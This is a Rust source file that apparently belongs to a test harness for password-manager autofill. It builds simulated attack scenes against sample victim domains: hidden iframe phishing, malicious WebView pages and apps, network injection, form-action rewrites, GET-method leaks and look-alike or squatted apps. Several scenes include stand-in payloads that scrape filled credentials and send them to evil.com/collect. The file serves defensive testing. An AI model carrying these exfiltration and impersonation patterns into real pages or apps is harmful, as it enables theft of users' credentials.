use serde_json::{json, Map, Value};

use super::{squat_generator, AttackError, AttackKind, PageExfil};
use crate::association::DAL_LOGIN_RELATION;
use crate::frameworks::{FillContext, NativeScreen};
use crate::model::{
    fingerprint, load_scene, AppIdentity, DomainName, Scene, APPLE_ASSOCIATION_PATH,
    DAL_ASSOCIATION_PATH,
};
use crate::webdoc::{FormRef, Injector, ScriptAction, ScriptEvent, ScriptPhase};

pub const ATTACKER_DOMAIN: &str = "evil.com";
pub const ATTACKER_KEY: &str = "attacker-key";
/// Package of the attacker's WebView app.
pub const ATTACKER_APP: &str = "com.evil.browser";
/// Domains with a credential in the canonical vault.
pub const VICTIMS: [&str; 2] = ["walmart.com", "bank.org"];

const TRACKER_DOMAIN: &str = "tracker.net";
const LOGIN_FORM: &str = r#"<form action="/session" method="post"><input name="username" autocomplete="username"><input type="password" name="password"></form>"#;

/// A self-contained scene plus the fill request that triggers the attack.
#[derive(Debug, Clone)]
pub struct Scenario {
    pub kind: AttackKind,
    pub victim: DomainName,
    pub scene: Scene,
    pub context: FillContext,
}

fn key_label(victim: &DomainName) -> String {
    format!("{}-release", victim.registrable().registrable_label())
}

fn legit_package(victim: &DomainName) -> String {
    let reg = victim.registrable();
    let suffix = reg.public_suffix();
    format!(
        "{}.{}.android",
        suffix.labels().first().map(String::as_str).unwrap_or("com"),
        reg.registrable_label()
    )
}

/// The victim's own app: entitled to the victim domain, listed in both of
/// its association files and mapped manually in the vault.
pub fn legit_app(victim: &DomainName) -> AppIdentity {
    AppIdentity::signed(&legit_package(victim), &key_label(victim))
        .expect("derived identity is valid")
        .entitled([victim.clone()])
        .with_developer_website(victim.clone())
}

fn app_json(app: &AppIdentity, key: &str) -> Value {
    let mut v = json!({
        "package_id": app.package_id.as_str(),
        "signing_key": key,
        "entitled_domains": app.entitled_domains.iter().map(|d| d.to_string()).collect::<Vec<_>>(),
    });
    if let Some(meta) = &app.store_metadata {
        v["store_metadata"] = json!({"developer_website": meta.developer_website.to_string()});
    }
    v
}

fn association_files(victim: &DomainName) -> Value {
    let pkg = legit_package(victim);
    let key = key_label(victim);
    let fp = fingerprint(&key).expect("static key label");
    let apple = json!({"webcredentials": {"apps": [format!("{key}.{pkg}")]}});
    let dal = json!([{
        "relation": [DAL_LOGIN_RELATION],
        "target": {"namespace": "android_app", "package_name": pkg, "sha256_cert_fingerprints": [fp.as_str()]}
    }]);
    json!({
        APPLE_ASSOCIATION_PATH: {"text": apple.to_string()},
        DAL_ASSOCIATION_PATH: {"text": dal.to_string()},
    })
}

fn html(served_over: Value, body: String) -> Value {
    json!({"served_over": served_over, "html": body})
}

fn exfil_scripts() -> String {
    format!(
        r#"<script-event phase="post-fill" do="scrape"/><script-event phase="post-fill" do="exfiltrate" to="https://{ATTACKER_DOMAIN}/collect"/>"#
    )
}

struct Builder {
    victim: DomainName,
    apps: Vec<Value>,
    victim_docs: Map<String, Value>,
    attacker_docs: Map<String, Value>,
}

impl Builder {
    fn new(victim: &DomainName) -> Self {
        let mut victim_docs = Map::new();
        victim_docs.insert(
            "/login".into(),
            html(json!("https-valid"), LOGIN_FORM.into()),
        );
        victim_docs.insert("/session".into(), html(json!("https-valid"), String::new()));
        let mut attacker_docs = Map::new();
        attacker_docs.insert("/collect".into(), html(json!("https-valid"), String::new()));
        Self {
            victim: victim.clone(),
            apps: VICTIMS
                .iter()
                .map(|v| {
                    let d: DomainName = v.parse().expect("static victim");
                    app_json(&legit_app(&d), &key_label(&d))
                })
                .collect(),
            victim_docs,
            attacker_docs,
        }
    }

    fn victim_doc(&mut self, path: &str, served_over: Value, body: String) {
        self.victim_docs
            .insert(path.into(), html(served_over, body));
    }

    fn scene(self) -> Result<Scene, AttackError> {
        let mut credentials = Vec::new();
        let mut mappings = Vec::new();
        for (i, v) in VICTIMS.iter().enumerate() {
            let d: DomainName = v.parse().expect("static victim");
            credentials.push(json!({
                "id": format!("cred-{}", d.registrable_label()),
                "username": format!("user{i}@{d}"),
                "password": format!("{}-S3cret-{i}", d.registrable_label()),
                "domain": v,
            }));
            mappings.push(json!({"package_id": legit_package(&d), "domain": v}));
        }
        let mut domains = Map::new();
        domains.insert(
            self.victim.to_string(),
            json!({"association_files": association_files(&self.victim), "documents": self.victim_docs}),
        );
        domains.insert(
            ATTACKER_DOMAIN.into(),
            json!({"documents": self.attacker_docs}),
        );
        domains.insert(
            TRACKER_DOMAIN.into(),
            json!({"documents": {"/ad": {"html": ""}}}),
        );
        let scene = json!({
            "vault": {"credentials": credentials, "manual_app_mappings": mappings},
            "apps": self.apps,
            "domains": domains,
        });
        Ok(load_scene(&scene.to_string())?)
    }
}

fn native(app: AppIdentity, requested_domain: Option<DomainName>) -> FillContext {
    FillContext::NativeUi {
        app,
        screen: NativeScreen::login(),
        requested_domain,
    }
}

/// Builds the scene and fill request for one attack against `victim`.
pub fn build_scenario(kind: AttackKind, victim: &DomainName) -> Result<Scenario, AttackError> {
    if !VICTIMS
        .iter()
        .any(|v| v.parse::<DomainName>().ok().as_ref() == Some(victim))
    {
        return Err(AttackError::UnknownVictim(victim.clone()));
    }
    let mut b = Builder::new(victim);
    let attacker: DomainName = ATTACKER_DOMAIN.parse().expect("static domain");
    let browser = |scene: &Scene, domain: &DomainName, path: &str, frame: Vec<usize>| {
        Ok::<_, AttackError>(FillContext::BrowserPage {
            document: scene.document(domain, path)?,
            target: FormRef {
                frame_path: frame,
                form: 0,
            },
        })
    };
    let (scene, context) = match kind {
        AttackKind::CrossOriginIframePhish => {
            b.victim_doc(
                "/login-framed",
                json!("https-valid"),
                format!("{LOGIN_FORM}{}", exfil_scripts()),
            );
            b.attacker_docs.insert(
                "/".into(),
                html(
                    json!("https-valid"),
                    format!(r#"<iframe src="https://{victim}/login-framed" hidden></iframe>"#),
                ),
            );
            let scene = b.scene()?;
            let ctx = browser(&scene, &attacker, "/", vec![0])?;
            (scene, ctx)
        }
        AttackKind::WebViewMaliciousPage(variant) => {
            let page = match variant {
                PageExfil::FormSubmit => {
                    r#"<form action="/collect" method="post"><input name="username" autocomplete="username"><input type="password" name="password"></form>"#.to_string()
                }
                PageExfil::PageScript => format!(
                    r#"<form action="https://{victim}/session" method="post"><input name="username" autocomplete="username"><input type="password" name="password"></form>{}"#,
                    exfil_scripts()
                ),
            };
            b.attacker_docs
                .insert("/login".into(), html(json!("https-valid"), page));
            let scene = b.scene()?;
            let ctx = FillContext::WebViewInApp {
                host: legit_app(victim),
                document: scene.document(&attacker, "/login")?,
                host_scripts: Vec::new(),
                target: FormRef::top(0),
            };
            (scene, ctx)
        }
        AttackKind::WebViewMaliciousApp => {
            let host = AppIdentity::signed(ATTACKER_APP, ATTACKER_KEY).expect("static identity");
            b.apps.push(app_json(&host, ATTACKER_KEY));
            let scene = b.scene()?;
            let host_scripts = vec![
                ScriptEvent {
                    phase: ScriptPhase::PostFill,
                    action: ScriptAction::ScrapeFields { form: 0 },
                    injected_by: Injector::HostApp,
                },
                ScriptEvent {
                    phase: ScriptPhase::PostFill,
                    action: ScriptAction::PostToBridge {
                        channel: "callbackHandler".into(),
                    },
                    injected_by: Injector::HostApp,
                },
            ];
            let ctx = FillContext::WebViewInApp {
                host,
                document: scene.document(victim, "/login")?,
                host_scripts,
                target: FormRef::top(0),
            };
            (scene, ctx)
        }
        AttackKind::NetworkInjectionHttp | AttackKind::NetworkInjectionBadCert => {
            let over = if kind == AttackKind::NetworkInjectionHttp {
                json!("http")
            } else {
                json!({"https-invalid-cert": "self-signed"})
            };
            b.victim_doc(
                "/login-injected",
                over,
                format!("{LOGIN_FORM}{}", exfil_scripts()),
            );
            let scene = b.scene()?;
            let ctx = browser(&scene, victim, "/login-injected", Vec::new())?;
            (scene, ctx)
        }
        AttackKind::ActionRewriteStatic => {
            b.victim_doc(
                "/login-static",
                json!("https-valid"),
                format!(
                    r#"<form action="https://{ATTACKER_DOMAIN}/collect" method="post"><input name="username" autocomplete="username"><input type="password" name="password"></form>"#
                ),
            );
            let scene = b.scene()?;
            let ctx = browser(&scene, victim, "/login-static", Vec::new())?;
            (scene, ctx)
        }
        AttackKind::ActionRewriteDynamic => {
            b.victim_doc(
                "/login-dynamic",
                json!("https-valid"),
                format!(
                    r#"{LOGIN_FORM}<script-event phase="post-fill" do="rewrite-action" to="https://{ATTACKER_DOMAIN}/collect"/>"#
                ),
            );
            let scene = b.scene()?;
            let ctx = browser(&scene, victim, "/login-dynamic", Vec::new())?;
            (scene, ctx)
        }
        AttackKind::GetMethodLeak => {
            b.victim_doc(
                "/login-get",
                json!("https-valid"),
                format!(
                    r#"<form action="/session" method="get"><input name="username" autocomplete="username"><input type="password" name="password"></form><iframe src="https://{TRACKER_DOMAIN}/ad"></iframe>"#
                ),
            );
            let scene = b.scene()?;
            let ctx = browser(&scene, victim, "/login-get", Vec::new())?;
            (scene, ctx)
        }
        AttackKind::LookAlikeApp => {
            let real = legit_app(victim);
            let fake = AppIdentity::signed(real.package_id.as_str(), ATTACKER_KEY)
                .expect("static identity")
                .entitled([victim.clone()])
                .with_developer_website(victim.clone());
            b.apps.push(app_json(&fake, ATTACKER_KEY));
            (b.scene()?, native(fake, None))
        }
        AttackKind::SideLoadedImpersonation => {
            let real = legit_app(victim);
            let fake = AppIdentity::signed(real.package_id.as_str(), ATTACKER_KEY)
                .expect("static identity");
            b.apps.push(app_json(&fake, ATTACKER_KEY));
            (b.scene()?, native(fake, Some(victim.clone())))
        }
        AttackKind::PackageNameSquat(s) => {
            let app = squat_generator(&s.scheme(), victim)?;
            b.apps.push(app_json(&app, ATTACKER_KEY));
            (b.scene()?, native(app, None))
        }
    };
    Ok(Scenario {
        kind,
        victim: victim.clone(),
        scene,
        context,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_kind_builds_for_every_victim() {
        for v in VICTIMS {
            let victim: DomainName = v.parse().unwrap();
            for kind in AttackKind::ALL {
                build_scenario(kind, &victim).unwrap_or_else(|e| panic!("{kind} on {v}: {e}"));
            }
        }
        assert!(matches!(
            build_scenario(AttackKind::GetMethodLeak, &"nowhere.com".parse().unwrap()),
            Err(AttackError::UnknownVictim(_))
        ));
    }

    #[test]
    fn legit_app_is_bidirectionally_verified() {
        use crate::association::{verify_any_platform, Platform};
        let victim: DomainName = "walmart.com".parse().unwrap();
        let s = build_scenario(AttackKind::LookAlikeApp, &victim).unwrap();
        let app = legit_app(&victim);
        assert_eq!(app.package_id.as_str(), "com.walmart.android");
        assert!(verify_any_platform(&app, &victim, &s.scene, &Platform::ALL).is_verified());
    }
}
